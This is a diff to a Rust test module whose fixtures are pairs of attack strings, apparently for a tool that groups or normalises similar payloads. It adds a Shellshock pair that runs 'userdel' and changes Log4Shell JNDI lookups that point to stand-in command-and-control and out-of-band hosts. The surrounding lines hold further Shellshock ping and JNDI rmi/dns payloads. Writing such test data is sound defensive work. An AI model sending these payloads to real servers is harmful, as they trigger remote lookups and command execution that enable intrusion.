@@ -94,6 +94,7 @@ mod tests {
                 "() { :; }; ping -c 1 c2-01.example",
                 "() { :; }; ping -c 1 c2-02.example",
             ),
+            ("() { :; }; userdel 4711", "() { :; }; userdel 4712"),
             (
                 "${jndi:rmi://a.example/Basic/d2hvYW1p}",
                 "${jndi:rmi://a.example/Basic/aWQ7dW5h}",
@@ -108,8 +109,8 @@ mod tests {
             ),
             ("${jndi:ldap://c2-01.example/4711}", "${jndi:ldap://c2-01.example/17}"),
             (
-                "${jndi:ldap://c8k2j1h0q3.oast.example/a}",
-                "${jndi:ldap://d1m4r7z2x9.oast.example/a}",
+                "${jndi:ldap://4711.oast.example/a}",
+                "${jndi:ldap://4712.oast.example/a}",
             ),
             (
                 "${jndi:dns://5770385f-c22a-43e0-bf4c-06f5698ffbd9/a}",
